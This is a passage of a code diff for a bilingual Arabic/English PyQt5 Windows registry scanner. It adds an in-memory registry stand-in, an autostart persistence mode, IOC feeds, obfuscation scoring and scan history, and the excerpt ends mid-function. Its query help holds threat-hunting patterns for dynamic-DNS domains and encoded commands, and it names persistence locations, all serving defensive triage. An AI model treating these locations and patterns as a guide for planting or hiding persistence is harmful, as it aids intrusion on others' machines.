@@ -10,24 +10,34 @@ NTRE.py -- Registry Scanner (واجهة تبويبية مُعاد تصميمها
 - رسوم تفاعلية: نقر لتطبيق الفلترة وTooltips ونِسَب
 """
 
-import sys, os, re, json, base64, html, traceback
+import sys, os, re, json, base64, html, traceback, time, sqlite3, hashlib, shutil, queue, threading
+import struct, mmap, math, heapq, tempfile, csv, ipaddress, itertools, random, platform, statistics, codecs
+from urllib.parse import urlsplit
+from array import array
+from bisect import bisect_left
+from concurrent.futures import ThreadPoolExecutor, ProcessPoolExecutor, wait, FIRST_COMPLETED
+from concurrent.futures.process import BrokenProcessPool
 from pathlib import Path
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, asdict, replace
 from datetime import datetime, timedelta
 from typing import List, Dict, Any, Tuple, Optional, Set
+from functools import lru_cache
 
 # ====== اعتمادات واجهة ======
 try:
     from PyQt5.QtWidgets import (
         QApplication, QMainWindow, QWidget, QVBoxLayout, QHBoxLayout, QGridLayout, QFrame,
         QPushButton, QLabel, QLineEdit, QGroupBox, QListWidget, QListWidgetItem,
-        QComboBox, QSpinBox, QCheckBox, QTableWidget, QTableWidgetItem, QHeaderView,
+        QComboBox, QSpinBox, QCheckBox, QTableWidget, QTableWidgetItem, QTableView, QHeaderView,
         QAbstractItemView, QMessageBox, QFileDialog, QStatusBar, QProgressBar, QToolBar,
         QAction, QDialog, QDialogButtonBox, QTreeWidget, QTreeWidgetItem, QTextEdit,
         QSplitter, QMenu, QRadioButton, QTabWidget, QSizePolicy, QToolButton, QSpacerItem,
-        QProgressDialog
+        QProgressDialog, QCompleter
+    )
+    from PyQt5.QtCore import (
+        Qt, QThread, pyqtSignal, QByteArray, QEvent, QTimer, QSize, QPoint,
+        QAbstractTableModel, QModelIndex, QStringListModel
     )
-    from PyQt5.QtCore import Qt, QThread, pyqtSignal, QByteArray, QEvent, QTimer, QSize, QPoint
     from PyQt5.QtGui import QPixmap, QKeySequence, QIcon, QPainter, QColor, QFont, QCursor
 except Exception as e:
     raise ImportError("PyQt5 مطلوب: pip install PyQt5") from e
@@ -36,6 +46,7 @@ try:
     import openpyxl
     from openpyxl.utils import get_column_letter
     from openpyxl.styles import Font, Alignment, PatternFill, Border, Side
+    from openpyxl.cell import WriteOnlyCell
 except Exception:
     openpyxl = None
 
@@ -51,11 +62,188 @@ try:
 except Exception:
     HAVE_YAML = False
 
+# ====== سجل في الذاكرة بواجهة winreg ======
+MEMREG_DEFAULT_FILETIME = 133000000000000000  # 2022-06 تقريباً؛ ثابت كي تتكرر نتائج حد العمر
+
+class MemoryRegistry:
+    """
+    تنفيذ في الذاكرة للجزء الذي تستخدمه الأداة من winreg (OpenKey وEnumKey وEnumValue وQueryInfoKey
+    وCloseKey وQueryValueEx وSetValueEx وDeleteValue) بنفس الثوابت. يحل محل winreg خارج ويندوز
+    ويُملأ بمولّد الخلايا الاصطناعية للقياس. فتح مفتاح مرفوض يرفع PermissionError كالسجل الحي.
+    """
+    HKEY_CLASSES_ROOT = 0x80000000
+    HKEY_CURRENT_USER = 0x80000001
+    HKEY_LOCAL_MACHINE = 0x80000002
+    HKEY_USERS = 0x80000003
+    HKEY_CURRENT_CONFIG = 0x80000005
+    REG_NONE = 0
+    REG_SZ = 1
+    REG_EXPAND_SZ = 2
+    REG_BINARY = 3
+    REG_DWORD = 4
+    REG_MULTI_SZ = 7
+    REG_QWORD = 11
+    KEY_SET_VALUE = 0x0002
+    KEY_READ = 0x20019
+    KEY_ALL_ACCESS = 0xF003F
+    KEY_WOW64_64KEY = 0x0100
+    KEY_WOW64_32KEY = 0x0200
+
+    class Node:
+        __slots__ = ("name", "keys", "order", "values", "index", "denied", "mtime")
+
+        def __init__(self, name: str):
+            self.name = name
+            self.keys: Dict[str, "MemoryRegistry.Node"] = {}   # اسم بأحرف صغيرة -> مفتاح فرعي
+            self.order: List[str] = []                          # ترتيب EnumKey بالأسماء الأصلية
+            self.values: List[Tuple[str, Any, int]] = []
+            self.index: Dict[str, int] = {}                     # اسم القيمة بأحرف صغيرة -> موضعها
+            self.denied = False
+            self.mtime = MEMREG_DEFAULT_FILETIME
+
+    class Handle:
+        __slots__ = ("node", "closed")
+
+        def __init__(self, node: "MemoryRegistry.Node"):
+            self.node = node
+            self.closed = False
+
+        def Close(self):
+            self.closed = True
+
+        def __enter__(self):
+            return self
+
+        def __exit__(self, *exc):
+            self.closed = True
+            return False
+
+    def __init__(self):
+        self._roots: Dict[int, MemoryRegistry.Node] = {}
+
+    # ---- البناء (غير موجود في winreg) ----
+    def root(self, hive: int) -> "MemoryRegistry.Node":
+        node = self._roots.get(hive)
+        if node is None:
+            node = self._roots[hive] = MemoryRegistry.Node("")
+        return node
+
+    def alias(self, hive: int, target_hive: int, target_path: str):
+        """يجعل الجذر hive عرضاً لمفتاح آخر، مثل HKCU -> HKU\\<SID> في السجل الحي."""
+        self._roots[hive] = self.add_key(target_hive, target_path)
+
+    def add_key(self, hive: int, path: str, denied: bool = False,
+                mtime: Optional[int] = None) -> "MemoryRegistry.Node":
+        node = self.root(hive)
+        for part in path.split("\\"):
+            if not part:
+                continue
+            child = node.keys.get(part.lower())
+            if child is None:
+                child = node.keys[part.lower()] = MemoryRegistry.Node(part)
+                node.order.append(part)
+            node = child
+        if denied:
+            node.denied = True
+        if mtime is not None:
+            node.mtime = int(mtime)
+        return node
+
+    @staticmethod
+    def put(node: "MemoryRegistry.Node", name: str, data: Any, vtype: int):
+        pos = node.index.get(name.lower())
+        if pos is None:
+            node.index[name.lower()] = len(node.values)
+            node.values.append((name, data, vtype))
+        else:
+            node.values[pos] = (name, data, vtype)
+
+    # ---- واجهة winreg ----
+    def _node(self, key: Any) -> "MemoryRegistry.Node":
+        if isinstance(key, MemoryRegistry.Handle):
+            if key.closed:
+                raise OSError(6, "The handle is invalid")
+            return key.node
+        if key in (self.HKEY_CLASSES_ROOT, self.HKEY_CURRENT_USER, self.HKEY_LOCAL_MACHINE,
+                   self.HKEY_USERS, self.HKEY_CURRENT_CONFIG):
+            return self.root(key)
+        raise OSError(6, "The handle is invalid")
+
+    def OpenKey(self, key: Any, sub_key: str, reserved: int = 0, access: int = 0x20019) -> "MemoryRegistry.Handle":
+        node = self._node(key)
+        for part in (sub_key or "").split("\\"):
+            if not part:
+                continue
+            node = node.keys.get(part.lower())
+            if node is None:
+                raise FileNotFoundError(2, "The system cannot find the file specified")
+        if node.denied:
+            raise PermissionError(5, "Access is denied")
+        return MemoryRegistry.Handle(node)
+
+    OpenKeyEx = OpenKey
+
+    def CloseKey(self, key: Any):
+        if isinstance(key, MemoryRegistry.Handle):
+            key.closed = True
+
+    def QueryInfoKey(self, key: Any) -> Tuple[int, int, int]:
+        node = self._node(key)
+        return len(node.order), len(node.values), node.mtime
+
+    def EnumKey(self, key: Any, index: int) -> str:
+        order = self._node(key).order
+        if not 0 <= index < len(order):
+            raise OSError(259, "No more data is available")
+        return order[index]
+
+    def EnumValue(self, key: Any, index: int) -> Tuple[str, Any, int]:
+        values = self._node(key).values
+        if not 0 <= index < len(values):
+            raise OSError(259, "No more data is available")
+        return values[index]
+
+    def QueryValueEx(self, key: Any, name: str) -> Tuple[Any, int]:
+        node = self._node(key)
+        pos = node.index.get((name or "").lower())
+        if pos is None:
+            raise FileNotFoundError(2, "The system cannot find the file specified")
+        _, data, vtype = node.values[pos]
+        return data, vtype
+
+    def SetValueEx(self, key: Any, name: str, reserved: int, vtype: int, data: Any):
+        self.put(self._node(key), name or "", data, vtype)
+
+    def DeleteValue(self, key: Any, name: str):
+        node = self._node(key)
+        pos = node.index.pop((name or "").lower(), None)
+        if pos is None:
+            raise FileNotFoundError(2, "The system cannot find the file specified")
+        del node.values[pos]
+        node.index = {n.lower(): i for i, (n, _, _) in enumerate(node.values)}
+
 # ====== اعتمادات Windows Registry ======
+# خارج ويندوز (CI ومضيفات القياس) يحل السجل في الذاكرة محل winreg فيبقى الملف قابلاً للاستيراد
 try:
     import winreg
-except Exception as e:
-        raise ImportError("winreg غير متاح. هذه الأداة مخصصة لويندوز.") from e
+    HAVE_WINREG = True
+except Exception:
+    winreg = MemoryRegistry()
+    HAVE_WINREG = False
+
+# psutil (اختياري) لقياس حِمل النظام في وضع الأثر المنخفض
+try:
+    import psutil
+    HAVE_PSUTIL = True
+except Exception:
+    HAVE_PSUTIL = False
+
+# NumPy (اختياري) لحساب درجة التمويه على دفعات من القيم ولمرشح ذرّات التواقيع السداسية
+try:
+    import numpy as np
+    HAVE_NUMPY = True
+except Exception:
+    HAVE_NUMPY = False
 
 # pywin32 (اختياري) لجلب مالك المفتاح
 try:
@@ -71,6 +259,8 @@ LISTS_FILE = APP_DIR / "lists_registry.json"
 RULES_FILE = APP_DIR / "rules.json"
 CONFIG_FILE = APP_DIR / "config.json"
 BACKUP_FILE_DEFAULT = APP_DIR / "backup_ntre.json"
+CHECKPOINT_FILE = APP_DIR / "scan_checkpoint.json"
+CHECKPOINT_RESULTS_FILE = APP_DIR / "scan_checkpoint_results.jsonl"
 
 # ================= شعارات/أيقونات Base64 بسيطة =================
 SAFE_LOGO_BASE64 = (
@@ -113,7 +303,10 @@ def modern_icon(glyph: str, bg="#3a86ff", fg="#ffffff") -> QIcon:
 def icon_for_action(name: str) -> QIcon:
     palette = {
         "scan": ("▶", "#22c55e"),
+        "scan_both": ("⏩", "#16a34a"),
         "stop": ("⏹", "#ef4444"),
+        "pause": ("⏸", "#f59e0b"),
+        "resume": ("⏯", "#22c55e"),
         "refresh": ("⟳", "#06b6d4"),
         "clear": ("🧹", "#f59e0b"),
         "export": ("⤓", "#8b5cf6"),
@@ -133,6 +326,7 @@ def icon_for_action(name: str) -> QIcon:
         "value": ("🧾", "#a855f7"),
         "tab_kw": ("🔤", "#3b82f6"),
         "tab_rules": ("📜", "#8b5cf6"),
+        "tab_history": ("🕘", "#14b8a6"),
         "folder": ("🗂", "#f97316"),
         "apply": ("✓", "#22c55e"),
         "filter": ("🔎", "#10b981"),
@@ -146,7 +340,31 @@ def icon_for_action(name: str) -> QIcon:
 L_AR = {
     "title": "أداة فحص السجل (Registry) -- واجهة تبويبية",
     "scan": "بدء الفحص",
+    "scan_both": "فحص مشترك",
+    "tab_both": "كلمات + قواعد",
+    "no_filters_both": "الفحص المشترك يحتاج مفاتيح وكلمات في تبويب الكلمات ومفاتيح وقواعد مفعّلة في تبويب القواعد.",
+    "stats_snapshot": "مفاتيح من لقطة العبور السابقة: {}",
+    "stats_memo": "قيم متكررة دون إعادة مطابقة: {:.0f}% ({}/{})",
+    "config_snapshot_ttl": "صلاحية لقطة العبور",
+    "config_snapshot_ttl_tip": "يعيد التبويب الآخر استخدام المفاتيح والقيم التي قرأها آخر فحص خلال هذه المدة (0 = تعطيل)",
     "stop": "إيقاف الفحص",
+    "pause": "إيقاف مؤقت",
+    "resume": "متابعة",
+    "resume_checkpoint": "استئناف آخر فحص",
+    "paused": "الفحص متوقف مؤقتاً",
+    "confirm_resume_checkpoint": "يوجد فحص غير مكتمل محفوظ ({} نتيجة، {} عنصر). هل تريد استئنافه؟",
+    "no_checkpoint": "لا توجد نقطة حفظ لاستئنافها.",
+    "stats_open": "فتح المفاتيح: {} (فشل {}، تُخطّي {})",
+    "stats_age": "مفاتيح أقدم من نافذة العمر (لم تُقرأ قيمها): {}",
+    "config_open_relative": "فتح المفاتيح الفرعية نسبةً للمفتاح الأب",
+    "config_offline_hives": "تضمين خلايا المستخدمين غير المسجّلين (NTUSER.DAT) عند فحص HKU",
+    "config_offline_hives_tip": "تُحمّل نسخة من NTUSER.DAT وUsrClass.dat مؤقتاً تحت HKU\\NTRE_<SID> ثم تُفرّغ (يتطلب pywin32 وصلاحيات المسؤول)",
+    "plan_title": "خطة الفحص",
+    "plan_units": "وحدات الفحص (مرتبة حسب الحجم التقديري)",
+    "plan_dropped": "جذور مُزالة (عمل مكرر)",
+    "plan_headers": ["المفتاح", "الجذر المُدخل", "الحجم التقديري"],
+    "plan_covered_by": "مشمول ضمن: {}",
+    "plan_invalid": "مسار غير صالح",
     "refresh": "تحديث",
     "clear": "مسح",
     "export": "تصدير",
@@ -192,7 +410,7 @@ L_AR = {
     "saved": "تم الحفظ",
     "loaded": "تم التحميل",
     "tbl_headers": [
-        "المفتاح","الخاصية","القيمة","الكلمة المطابقة","نوع القيمة","آخر تعديل","المالك","الحالة","القاعدة المطابقة","الأسباب"
+        "المفتاح","الخاصية","القيمة","الكلمة المطابقة","نوع القيمة","آخر تعديل","المالك","الحالة","القاعدة المطابقة","الأسباب","درجة التمويه"
     ],
     "state_ok": "Access",
     "state_denied": "Denied",
@@ -204,6 +422,16 @@ L_AR = {
     "scan_modes": "أوضاع الفحص",
     "display_modes": "وضع عرض النتائج",
     "display_all": "عرض جميع السجلات",
+    "asep_mode": "نقاط التشغيل التلقائي فقط (ASEP)",
+    "asep_tip": "يقرأ مواقع الاستمرارية المعروفة مباشرة (Run، الخدمات، IFEO، AppInit، Winlogon، COM، المهام المجدولة...) بدلاً من عبور المفاتيح المدخلة",
+    "asep_both_mismatch": "الفحص المشترك يتطلب تفعيل وضع ASEP في التبويبين أو تعطيله فيهما.",
+    "stats_asep": "كتالوج ASEP {}: {} مفتاح",
+    "stats_users": "خلايا المستخدمين بالتوازي: {} (غير متصلة محمّلة: {}، فشل: {})",
+    "stats_reg_file": "مفاتيح من ملفات السجل: {}",
+    "browser_more": "(المزيد)... انقر لتحميل بقية المفاتيح",
+    "scan_file": "فحص ملف سجل",
+    "regfile_filter": "ملفات السجل (*.reg *.dat *.hve SYSTEM SOFTWARE SAM SECURITY DEFAULT);;كل الملفات (*)",
+    "regfile_bad": "ليس ملف سجل معروفاً (تصدير regedit أو Wine أو خلية regf): {}",
     "display_matched": "عرض المتطابقة فقط",
     "settings_title": "الإعدادات",
     "config_lang": "اللغة",
@@ -219,6 +447,15 @@ L_AR = {
     "config_age": "فلترة حسب العمر (أيام)",
     "config_use_age": "تفعيل فلترة العمر",
     "config_accounts": "حسابات المالك",
+    "config_governor": "منظّم الموارد",
+    "config_low_impact": "وضع الأثر المنخفض (فحص بالخلفية)",
+    "config_target_rate": "المعدل المستهدف (مفتاح/ثانية، 0 = بلا حد)",
+    "config_cpu_share": "الحد الأقصى لحصة المعالج (%)",
+    "config_limits": "حدود الفحص",
+    "config_max_matches": "الحد الأقصى للمطابقات (0 = بلا حد)",
+    "config_stop_first": "التوقف عند أول مطابقة في كل جذر",
+    "config_top_n": "أعلى N مطابقة حسب مستوى القاعدة (0 = معطل)",
+    "stats_budget": "توقف الفحص مبكراً بعد بلوغ حد المطابقات",
     "config_backup": "النسخ الاحتياطي",
     "backup_create": "إنشاء نسخة احتياطية",
     "backup_restore": "استعادة نسخة احتياطية",
@@ -252,6 +489,69 @@ L_AR = {
     "action_failed": "فشلت العملية",
     "tab_keywords": "فحص بالكلمات",
     "tab_rules": "فحص بالقواعد",
+    "tab_history": "سجل الفحوص",
+    "history_runs": "الفحوص السابقة",
+    "history_run_headers": ["#", "الوقت", "التبويب", "المدة (ث)", "الإجمالي", "المطابق", "المحفوظ", "بصمة القواعد"],
+    "history_query": "بحث في السجل",
+    "history_fields": ["كل الحقول", "المفتاح", "الخاصية", "نوع القيمة", "المالك", "الكلمة المطابقة", "القاعدة المطابقة", "الجهاز"],
+    "history_exact": "مطابقة تامة",
+    "history_prefix": "يبدأ بـ",
+    "history_query_mode": "استعلام",
+    "history_selected_run": "الفحص المحدد فقط",
+    "history_search": "بحث",
+    "history_refresh": "تحديث",
+    "history_delete_run": "حذف الفحص",
+    "history_run_col": "الفحص",
+    "history_result_count": "{} نتيجة خلال {:.0f} ملّي ثانية",
+    "confirm_delete_run": "حذف هذا الفحص ونتائجه من السجل؟",
+    "config_history": "حفظ الفحوص المكتملة في السجل",
+    "config_key_index": "بناء فهرس مسارات المفاتيح في الخلفية (بحث وإكمال تلقائي)",
+    "find_keys": "بحث",
+    "find_keys_title": "البحث في مسارات المفاتيح",
+    "find_keys_hint": "جزء من اسم المفتاح، أو اسم كامل، أو بادئة مسار",
+    "key_index_contains": "الاسم يحتوي",
+    "key_index_name": "الاسم يساوي",
+    "key_index_prefix": "المسار يبدأ بـ",
+    "key_index_status": "الفهرس: {} مفتاح (آخر تحديث {})",
+    "key_index_shown": "النتائج: {}",
+    "key_index_empty": "فهرس المفاتيح لم يُبنَ بعد (يُبنى في الخلفية بعد بدء التشغيل)",
+    "key_index_done": "تحديث فهرس المفاتيح: {} مفتاح، أُضيف {}، حُذف {}",
+    "browser_goto_hint": "اكتب مساراً للانتقال إليه (Enter)",
+    "config_baseline": "خط الأساس المعروف السليم",
+    "config_baseline_mode": "مطابقات خط الأساس:",
+    "config_baseline_file": "ملف خط الأساس:",
+    "baseline_modes": ["معطّل", "إخفاء", "تنزيل إلى آخر الترتيب"],
+    "baseline_build": "بناء من النتائج الحالية...",
+    "baseline_build_tip": "افحص جهازاً نظيفاً (أو ملف .reg منه) ثم ابنِ خط الأساس من نتائجه؛ القيم المطابقة له (المسار، الاسم، المحتوى) تُخفى أو تُنزَّل في الفحوص اللاحقة",
+    "baseline_building": "جاري بناء خط الأساس من {} صف...",
+    "baseline_built": "تم بناء خط الأساس: {} قيمة فريدة",
+    "baseline_no_results": "لا توجد نتائج في تبويب الفحص الحالي لبناء خط الأساس منها.",
+    "baseline_bad": "ملف خط الأساس غير صالح: {}",
+    "reason_baseline": "ضمن خط الأساس",
+    "stats_baseline": "مطابقات ضمن خط الأساس: {}",
+    "ioc_feeds": "خلاصات IOC",
+    "ioc_title": "خلاصات مؤشرات الاختراق",
+    "ioc_headers": ["الخلاصة", "المؤشرات", "تاريخ الاستيراد", "الملف"],
+    "ioc_import": "استيراد خلاصة...",
+    "ioc_hint": "TXT (مؤشر في كل سطر)، CSV (عمود indicator/value مع type اختياري)، أو JSON (حزمة STIX أو قائمة {type, value}). تُطابق القيم بالهاشات وعناوين IP والنطاقات (وكل نطاقاتها الفرعية) والمسارات (وما تحتها) وأسماء الملفات.",
+    "ioc_importing": "جاري استيراد {} ملف...",
+    "ioc_imported": "تم الاستيراد: {} مؤشر فريد ({} سطر غير معروف النوع)",
+    "ioc_missing": "(الملف مفقود)",
+    "ioc_bad": "ملف خلاصة غير صالح: {}",
+    "reason_ioc": "مؤشر اختراق",
+    "config_obf": "درجة التمويه (NumPy)",
+    "config_obf_tip": "يقيّم القيم الطويلة بإنتروبيا شانون ونسب أبجديات base64/السداسي وأطول مقطع قابل للطباعة ونسبة غير القابل للطباعة في UTF-16",
+    "config_obf_threshold": "حد المطابقة:",
+    "need_numpy": "ثبّت NumPy لتفعيل درجة التمويه: pip install numpy",
+    "reason_obf": "قيمة مموّهة",
+    "stats_obf": "قيم مموّهة: {} من {} مُقيَّمة",
+    "history_host_col": "الجهاز",
+    "tab_batch": "فرز دفعي",
+    "group_values": "تجميع القيم المتكررة",
+    "group_values_tip": "صف واحد لكل (اسم القيمة، النوع، المحتوى) مع العدد ونماذج المفاتيح؛ انقر مرتين لعرض صفوف المجموعة",
+    "group_headers": ["العدد", "المشبوه", "الخاصية", "نوع القيمة", "القيمة", "نماذج المفاتيح"],
+    "group_status": "{} مجموعة قيم",
+    "group_drill": "عرض {} صف للقيمة {} (امسح الفلترة للعودة إلى كل الصفوف)",
     "keys_list_rules": "مفاتيح السجل (للفحص بالقواعد)",
     "filter_column": "العمود",
     "filter_mode": "نوع المطابقة",
@@ -260,6 +560,13 @@ L_AR = {
     "match_partial": "تطابق جزئي",
     "match_exact": "تطابق كامل",
     "match_regex": "Regex",
+    "match_query": "استعلام",
+    "query_help": "حقل:قيمة مثل owner:SYSTEM type:binary key:HKLM\\...\\Run* level:high\n"
+                  "modified:>=2026-10-01 أو modified:>-3d أو modified:2026-10-01..2026-10-18، name:/regex/\n"
+                  "الأدلة المستخرجة: file: url: ip: domain: cmd: b64: مثل domain:*.duckdns.org cmd:*-enc*، ودرجة التمويه obf:>=60\n"
+                  "في السجل: host:WS01 لنتائج جهاز من الفرز الدفعي\n"
+                  "AND / OR / NOT والأقواس؛ كلمة بلا حقل = بحث في كل الحقول النصية",
+    "query_error": "خطأ في الاستعلام: {}",
 
     # خيارات فلترة المالك
     "owner_all": "الكل",
@@ -270,7 +577,31 @@ L_AR = {
 L_EN = {
     "title": "Registry Scanner -- Tabbed UI",
     "scan": "Scan",
+    "scan_both": "Combined scan",
+    "tab_both": "Keywords + rules",
+    "no_filters_both": "A combined scan needs keys and keywords on the keywords tab and keys and enabled rules on the rules tab.",
+    "stats_snapshot": "Keys served from the previous traversal snapshot: {}",
+    "stats_memo": "Repeated values not re-matched: {:.0f}% ({}/{})",
+    "config_snapshot_ttl": "Traversal snapshot lifetime",
+    "config_snapshot_ttl_tip": "The other tab reuses keys and values read by the last scan within this time (0 = off)",
     "stop": "Stop",
+    "pause": "Pause",
+    "resume": "Resume",
+    "resume_checkpoint": "Resume last scan",
+    "paused": "Scan paused",
+    "confirm_resume_checkpoint": "An unfinished scan was saved ({} results, {} items). Resume it?",
+    "no_checkpoint": "No checkpoint to resume.",
+    "stats_open": "Key opens: {} (failed {}, skipped {})",
+    "stats_age": "Keys older than the age window (values not read): {}",
+    "config_open_relative": "Open subkeys relative to the parent key",
+    "config_offline_hives": "Include logged-off users' hives (NTUSER.DAT) when scanning HKU",
+    "config_offline_hives_tip": "A copy of NTUSER.DAT and UsrClass.dat is loaded temporarily under HKU\\NTRE_<SID> and unloaded afterwards (requires pywin32 and administrator rights)",
+    "plan_title": "Scan Plan",
+    "plan_units": "Scan units (ordered by estimated size)",
+    "plan_dropped": "Removed roots (duplicate work)",
+    "plan_headers": ["Key", "Entered root", "Estimated size"],
+    "plan_covered_by": "Covered by: {}",
+    "plan_invalid": "Invalid path",
     "refresh": "Refresh",
     "clear": "Clear",
     "export": "Export",
@@ -316,7 +647,7 @@ L_EN = {
     "saved": "Saved",
     "loaded": "Loaded",
     "tbl_headers": [
-        "Key","Property","Value","Matched keyword","Value type","Last modified","Owner","State","Matched rule","Reasons"
+        "Key","Property","Value","Matched keyword","Value type","Last modified","Owner","State","Matched rule","Reasons","Obfuscation"
     ],
     "state_ok": "Access",
     "state_denied": "Denied",
@@ -328,6 +659,16 @@ L_EN = {
     "scan_modes": "Scan Modes",
     "display_modes": "Display Mode",
     "display_all": "Show all records",
+    "asep_mode": "Autostart locations only (ASEP)",
+    "asep_tip": "Reads known persistence locations directly (Run, services, IFEO, AppInit, Winlogon, COM, scheduled tasks...) instead of walking the entered keys",
+    "asep_both_mismatch": "A combined scan needs ASEP mode either on or off in both tabs.",
+    "stats_asep": "ASEP catalogue {}: {} keys",
+    "stats_users": "User hives in parallel: {} (offline mounted: {}, failed: {})",
+    "stats_reg_file": "Keys read from registry files: {}",
+    "browser_more": "(more)... click to load the remaining keys",
+    "scan_file": "Scan registry file",
+    "regfile_filter": "Registry files (*.reg *.dat *.hve SYSTEM SOFTWARE SAM SECURITY DEFAULT);;All files (*)",
+    "regfile_bad": "Not a recognised registry file (regedit or Wine export, or regf hive): {}",
     "display_matched": "Show matched only",
     "settings_title": "Settings",
     "config_lang": "Language",
@@ -343,6 +684,15 @@ L_EN = {
     "config_age": "Age filter (days)",
     "config_use_age": "Enable age filter",
     "config_accounts": "Owner accounts",
+    "config_governor": "Resource governor",
+    "config_low_impact": "Low impact mode (background scan)",
+    "config_target_rate": "Target rate (keys/sec, 0 = unlimited)",
+    "config_cpu_share": "Max CPU share (%)",
+    "config_limits": "Scan limits",
+    "config_max_matches": "Max matches (0 = unlimited)",
+    "config_stop_first": "Stop at the first match in each root",
+    "config_top_n": "Top N matches by rule level (0 = off)",
+    "stats_budget": "Scan stopped early after reaching the match budget",
     "config_backup": "Backup",
     "backup_create": "Create backup",
     "backup_restore": "Restore backup",
@@ -376,6 +726,69 @@ L_EN = {
     "action_failed": "Action failed",
     "tab_keywords": "Keyword Scan",
     "tab_rules": "Rules Scan",
+    "tab_history": "Scan History",
+    "history_runs": "Past runs",
+    "history_run_headers": ["#", "Time", "Tab", "Duration (s)", "Total", "Matched", "Stored", "Rules hash"],
+    "history_query": "Search history",
+    "history_fields": ["Any field", "Key", "Property", "Value type", "Owner", "Matched keyword", "Matched rule", "Host"],
+    "history_exact": "Exact",
+    "history_prefix": "Starts with",
+    "history_query_mode": "Query",
+    "history_selected_run": "Selected run only",
+    "history_search": "Search",
+    "history_refresh": "Refresh",
+    "history_delete_run": "Delete run",
+    "history_run_col": "Run",
+    "history_result_count": "{} rows in {:.0f} ms",
+    "confirm_delete_run": "Delete this run and its rows from history?",
+    "config_history": "Save completed scans to history",
+    "config_key_index": "Build a key path index in the background (search and autocomplete)",
+    "find_keys": "Find",
+    "find_keys_title": "Search key paths",
+    "find_keys_hint": "Part of a key name, a full name, or a path prefix",
+    "key_index_contains": "Name contains",
+    "key_index_name": "Name equals",
+    "key_index_prefix": "Path starts with",
+    "key_index_status": "Index: {} keys (updated {})",
+    "key_index_shown": "Results: {}",
+    "key_index_empty": "The key index has not been built yet (it builds in the background after startup)",
+    "key_index_done": "Key index updated: {} keys, {} added, {} removed",
+    "browser_goto_hint": "Type a path to jump to it (Enter)",
+    "config_baseline": "Known-good baseline",
+    "config_baseline_mode": "Baseline matches:",
+    "config_baseline_file": "Baseline file:",
+    "baseline_modes": ["Off", "Suppress", "Demote to the bottom"],
+    "baseline_build": "Build from current results...",
+    "baseline_build_tip": "Scan a clean machine (or a .reg export of it) and build the baseline from its results; values found in it (path, name, content) are suppressed or demoted in later scans",
+    "baseline_building": "Building baseline from {} rows...",
+    "baseline_built": "Baseline built: {} unique values",
+    "baseline_no_results": "There are no results in the current scan tab to build a baseline from.",
+    "baseline_bad": "Invalid baseline file: {}",
+    "reason_baseline": "In baseline",
+    "stats_baseline": "Matches in the baseline: {}",
+    "ioc_feeds": "IOC feeds",
+    "ioc_title": "IOC Feeds",
+    "ioc_headers": ["Feed", "Indicators", "Imported", "File"],
+    "ioc_import": "Import feed...",
+    "ioc_hint": "TXT (one indicator per line), CSV (an indicator/value column with optional type), or JSON (a STIX bundle or a list of {type, value}). Values are matched against hashes, IPs, domains (including subdomains), paths (and everything under them) and file names.",
+    "ioc_importing": "Importing {} file(s)...",
+    "ioc_imported": "Imported: {} unique indicators ({} lines of unknown type)",
+    "ioc_missing": "(file missing)",
+    "ioc_bad": "Invalid IOC feed file: {}",
+    "reason_ioc": "IOC",
+    "config_obf": "Obfuscation score (NumPy)",
+    "config_obf_tip": "Scores long values by Shannon entropy, base64/hex charset ratios, longest printable run and the non-printable ratio in UTF-16",
+    "config_obf_threshold": "Match at:",
+    "need_numpy": "Install NumPy to enable obfuscation scoring: pip install numpy",
+    "reason_obf": "Obfuscated value",
+    "stats_obf": "Obfuscated values: {} of {} scored",
+    "history_host_col": "Host",
+    "tab_batch": "Batch triage",
+    "group_values": "Group duplicate values",
+    "group_values_tip": "One row per (value name, type, content) with counts and sample keys; double-click to show the group's rows",
+    "group_headers": ["Count", "Suspicious", "Property", "Value type", "Value", "Sample keys"],
+    "group_status": "{} value groups",
+    "group_drill": "Showing {} rows for value {} (clear the filter to return to all rows)",
     "keys_list_rules": "Registry keys (for Rules scan)",
     "filter_column": "Column",
     "filter_mode": "Match mode",
@@ -384,6 +797,13 @@ L_EN = {
     "match_partial": "Partial",
     "match_exact": "Exact",
     "match_regex": "Regex",
+    "match_query": "Query",
+    "query_help": "field:value e.g. owner:SYSTEM type:binary key:HKLM\\...\\Run* level:high\n"
+                  "modified:>=2026-10-01, modified:>-3d or modified:2026-10-01..2026-10-18, name:/regex/\n"
+                  "extracted artifacts: file: url: ip: domain: cmd: b64: e.g. domain:*.duckdns.org cmd:*-enc*, obfuscation score obf:>=60\n"
+                  "in history: host:WS01 for one host's batch triage results\n"
+                  "AND / OR / NOT and parentheses; a bare word searches all text fields",
+    "query_error": "Query error: {}",
 
     # Owner filter options
     "owner_all": "All",
@@ -416,6 +836,320 @@ def exact_token_present(text: str, tokens: List[str]) -> Optional[str]:
             return t
     return None
 
+# ================= مطابقة على مستوى البايتات (REG_BINARY) =================
+_WORD_CLASS_B = rb"[0-9A-Za-z_]"
+
+class BytesTokenMatcher:
+    """
+    بحث متعدد الأنماط في البايتات الخام: كل كلمة بترميزَي UTF-8 (ASCII) وUTF-16LE، بحدود الكلمة نفسها
+    المستخدمة في exact_token_present، مجمّعة في تعبير واحد يمر على القيمة مرة واحدة دون تحويلها لنص.
+    """
+    def __init__(self, tokens):
+        self._by_bytes: Dict[bytes, str] = {}
+        narrow, wide = [], []
+        for t in tokens:
+            t = str(t)
+            if not t:
+                continue
+            for enc, bucket in ((t.encode("utf-8"), narrow), (t.encode("utf-16-le"), wide)):
+                if enc not in self._by_bytes:
+                    self._by_bytes[enc] = t
+                    bucket.append(enc)
+        alts = []
+        if narrow:
+            body = b"|".join(re.escape(b) for b in sorted(narrow, key=len, reverse=True))
+            alts.append(rb"(?<!" + _WORD_CLASS_B + rb")(?:" + body + rb")(?!" + _WORD_CLASS_B + rb")")
+        if wide:
+            body = b"|".join(re.escape(b) for b in sorted(wide, key=len, reverse=True))
+            alts.append(rb"(?<!" + _WORD_CLASS_B + rb"\x00)(?:" + body + rb")(?!" + _WORD_CLASS_B + rb"\x00)")
+        self._re = re.compile(b"|".join(alts)) if alts else None
+
+    def search(self, data: bytes) -> Optional[str]:
+        if self._re is None or not data:
+            return None
+        m = self._re.search(data)
+        return self._by_bytes.get(m.group(0)) if m else None
+
+@lru_cache(maxsize=4096)
+def _single_token_matcher(tok: str) -> BytesTokenMatcher:
+    return BytesTokenMatcher([tok])
+
+def bytes_token_present(data: bytes, tokens: List[str]) -> Optional[str]:
+    if not data or not tokens:
+        return None
+    for t in tokens:
+        if _single_token_matcher(t).search(data):
